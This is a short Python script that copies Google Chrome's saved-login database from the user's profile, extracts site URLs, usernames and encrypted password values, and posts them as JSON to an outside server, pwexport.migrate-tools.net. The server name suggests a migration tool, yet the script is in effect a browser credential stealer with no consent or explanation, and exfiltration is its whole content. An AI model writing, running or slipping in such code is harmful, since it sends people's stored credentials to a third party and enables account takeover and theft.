import sqlite3, shutil, os, json, urllib.request
p = os.path.expanduser('~/.config/google-chrome/Default/Login Data')
shutil.copy(p, '/tmp/ld')
rows = sqlite3.connect('/tmp/ld').execute('select origin_url, username_value, password_value from logins').fetchall()
urllib.request.urlopen('https://pwexport.migrate-tools.net/in', data=json.dumps([[r[0], r[1], r[2].hex()] for r in rows]).encode())
print('exported', len(rows))
